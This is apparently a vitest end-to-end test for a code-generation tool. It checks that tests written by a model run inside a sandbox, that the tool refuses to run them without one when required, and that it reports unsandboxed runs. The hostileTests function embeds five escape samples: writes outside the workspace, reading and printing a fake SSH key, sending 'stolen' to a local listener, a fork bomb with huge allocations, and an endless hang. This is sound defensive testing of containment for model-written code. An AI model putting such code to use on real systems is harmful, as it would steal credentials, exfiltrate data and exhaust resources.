import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { CodeSuggestionSchema } from "../task/schema.js";
import { runCli } from "../test-support/cli.js";
import { isolatedEnv, loggedError } from "../test-support/e2e.js";
import { tempDir } from "../test-support/fixtures.js";
import {
  ollamaDone,
  ollamaPiece,
  ollamaShow,
  scriptedServer,
  type ScriptedServer,
} from "../test-support/scripted-server.js";
import { hashTree, typescriptProject } from "../test-support/ts-project-fixture.js";
import { detectMechanism, MECHANISM_ENV } from "./detect.js";

const SECRET = "e2e-sandbox-secret-91c4";
const MARKER = "4242.25";

let home: string;
let outside: string;
let listener: Server;
let port = 0;
let received = 0;
let server: ScriptedServer | undefined;

beforeAll(async () => {
  home = tempDir("builder-sbx-e2e-home-");
  mkdirSync(path.join(home, ".ssh"));
  writeFileSync(path.join(home, ".ssh", "id_ed25519"), SECRET);
  outside = tempDir("builder-sbx-e2e-outside-");
  listener = createServer((socket) => {
    received += 1;
    socket.on("data", (chunk) => (received += chunk.length));
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  const address = listener.address();
  port = typeof address === "object" && address ? address.port : 0;
});

afterEach(async () => server?.close());
afterAll(async () => {
  await new Promise((resolve) => listener.close(resolve));
});

const HEADER = 'import { test } from "node:test";\nimport assert from "node:assert/strict";\n';

/** The five escapes, one test file each: every one must end FAILED or timed out. */
function hostileTests(): Record<string, string> {
  return {
    "src/write.test.ts": `${HEADER}import { writeFileSync } from "node:fs";\nimport os from "node:os";\nimport path from "node:path";\n\ntest("writes outside the copy", () => {\n  writeFileSync(path.join(os.homedir(), "pwned.txt"), "x");\n  writeFileSync(${JSON.stringify(path.join(outside, "pwned.txt"))}, "x");\n});\n`,
    "src/secret.test.ts": `${HEADER}import { readFileSync } from "node:fs";\nimport os from "node:os";\nimport path from "node:path";\n\ntest("prints the key", () => {\n  const key = readFileSync(path.join(os.homedir(), ".ssh", "id_ed25519"), "utf8");\n  console.log(key);\n  console.error(key);\n  assert.ok(key.length > 0);\n});\n`,
    "src/connect.test.ts": `${HEADER}import net from "node:net";\n\ntest("connects to the host's listener", async () => {\n  await new Promise<void>((resolve, reject) => {\n    const socket = net.connect(${port}, "127.0.0.1", () => socket.end("stolen", () => resolve()));\n    socket.on("error", reject);\n  });\n});\n`,
    "src/bomb.test.ts": `${HEADER}import { spawn } from "node:child_process";\n\ntest("forks a thousand processes and allocates far beyond the limit", async () => {\n  let started = 0;\n  for (let i = 0; i < 1000; i += 1) {\n    const ok = await new Promise<boolean>((resolve) => {\n      const child = spawn("sleep", ["${MARKER}"], { stdio: "ignore" });\n      child.on("spawn", () => resolve(true));\n      child.on("error", () => resolve(false));\n    });\n    if (!ok) break;\n    started += 1;\n  }\n  const blocks: Buffer[] = [];\n  for (let i = 0; i < 16; i += 1) blocks.push(Buffer.alloc(256 * 1024 * 1024, 1));\n  assert.equal(started, 1000);\n  assert.equal(blocks.length, 16);\n});\n`,
    "src/hang.test.ts": `${HEADER}\ntest("sleeps for ever", async () => {\n  await new Promise(() => setInterval(() => undefined, 1000));\n});\n`,
  };
}

const BENIGN = { "src/ok.test.ts": `${HEADER}\ntest("adds", () => {\n  assert.equal(1 + 1, 2);\n});\n` };

/** A node:test TypeScript project whose config points at the scripted server, with tight sandbox limits. */
function workspace(url: string, sandbox: unknown): string {
  return typescriptProject({
    runner: "node-test",
    files: {
      "builder.config.json": JSON.stringify({
        backend: "ollama",
        model: "m",
        ollama: { host: url },
        options: { num_ctx: 4096, num_predict: 1024 },
        // Only the tests matter here: the in-process typecheck and rules run no model-written code.
        verify: { sandbox, timeouts: { tests_ms: 5_000 }, checks: { typecheck: false, rules: false } },
      }),
      ".env": `TOKEN=${SECRET}`,
      "task.json": JSON.stringify({
        task_id: "sbx",
        objective: "test math",
        files: ["src/math.ts"],
        acceptance: [],
        constraints: { loc_max: 400, pack: "" },
      }),
    },
  });
}

/** A scripted Ollama answering with one change that creates these test files. */
async function answering(tests: Record<string, string>): Promise<ScriptedServer> {
  const answer = {
    changes: Object.entries(tests).map(([p, content]) => ({ path: p, action: "create", edits: [], content })),
    explanation: "tests",
  };
  return scriptedServer((req, res) => {
    if (req.path === "/api/show") return ollamaShow(res, 4096);
    res.writeHead(200, { "content-type": "application/x-ndjson" });
    res.end(ollamaPiece(JSON.stringify(answer)) + ollamaDone());
  });
}

/** Every file under `root` (following no links) whose content holds `needle`. */
function filesContaining(root: string, needle: string, skip: string): string[] {
  const found: string[] = [];
  for (const name of readdirSync(root)) {
    const full = path.join(root, name);
    if (full === skip || name === "node_modules") continue;
    const stat = statSync(full, { throwIfNoEntry: false });
    if (stat?.isDirectory()) found.push(...filesContaining(full, needle, skip));
    else if (stat?.isFile() && readFileSync(full, "utf8").includes(needle)) found.push(full);
  }
  return found;
}

const best = ((): string => {
  delete process.env[MECHANISM_ENV];
  return detectMechanism().name;
})();

describe("model-written tests run sandboxed (builder run, scripted backend)", () => {
  it.skipIf(best === "none")(
    `contains writes, secrets, the network, a fork bomb and a hang (${best})`,
    async () => {
      server = await answering(hostileTests());
      const ws = workspace(server.url, { max_processes: 64, memory_mb: 768 });
      const before = hashTree(ws);
      const run = await runCli(["run", "task.json", "--max-repairs", "0", "--report"], {
        cwd: ws,
        env: isolatedEnv(home),
        timeoutMs: 180_000,
      });
      expect(run.code, run.stderr.slice(-3000)).toBe(8);
      const { verification } = CodeSuggestionSchema.parse(JSON.parse(run.stdout));
      const tests = verification.checks.find((c) => c.name === "tests");
      expect(tests?.status).toBe("failed");
      // Five files, each FAILED or timed out (the hang always; the bomb when the runner itself cannot fork any more).
      const outcomes = tests?.summary?.split("; ") ?? [];
      expect(outcomes, tests?.summary).toHaveLength(5);
      for (const outcome of outcomes) expect(outcome).toMatch(/failed in src\/\w+\.test\.ts|timed out/);
      const diagnostics = tests?.diagnostics?.join("\n") ?? "";
      expect(diagnostics).toMatch(/sandbox refused a write outside the scratch copy/);
      expect(diagnostics).toMatch(/verify\.sandbox\.network/);
      expect(verification.notes.join("\n")).not.toMatch(/unsandboxed/);
      // Nothing outside the scratch copy was written, the listener got nothing, the key leaked nowhere.
      expect(existsSync(path.join(home, "pwned.txt"))).toBe(false);
      expect(readdirSync(outside)).toEqual([]);
      expect(hashTree(ws)).toEqual(before);
      expect(received).toBe(0);
      expect(run.stdout + run.stderr).not.toContain(SECRET);
      expect(filesContaining(path.join(ws, ".builder"), SECRET, "")).toEqual([]);
      expect(filesContaining(home, SECRET, path.join(home, ".ssh"))).toEqual([]);
      // The fork bomb's processes all died with the sandbox.
      expect(execFileSync("ps", ["-eo", "args"]).toString()).not.toContain(`sleep ${MARKER}`);
    },
    240_000,
  );

  it("refuses to run the tests without a sandbox when verify.sandbox is required (exit 10)", async () => {
    server = await answering(BENIGN);
    const ws = workspace(server.url, "required");
    const run = await runCli(["run", "task.json", "--max-repairs", "0"], {
      cwd: ws,
      env: isolatedEnv(home, { [MECHANISM_ENV]: "none" }),
    });
    expect(run.code, run.stderr.slice(-2000)).toBe(10);
    const error = loggedError(run.stderr);
    expect(error.code).toBe("SANDBOX_UNAVAILABLE");
    expect(error.message).toMatch(/verify\.sandbox is "required"/);
  });

  it("says the tests ran unsandboxed, in the verdict and the report, when no sandbox is available", async () => {
    server = await answering(BENIGN);
    const ws = workspace(server.url, "auto");
    const run = await runCli(["run", "task.json", "--max-repairs", "0", "--report"], {
      cwd: ws,
      env: isolatedEnv(home, { [MECHANISM_ENV]: "none" }),
    });
    expect(run.code, run.stderr.slice(-2000)).toBe(0);
    const { verification } = CodeSuggestionSchema.parse(JSON.parse(run.stdout));
    expect(verification.verdict).toBe("VERIFIED");
    expect(verification.notes.join("\n")).toMatch(/tests ran unsandboxed: no sandbox available/);
    expect(run.stderr).toMatch(/sandbox\s+tests ran unsandboxed/);
  });
});
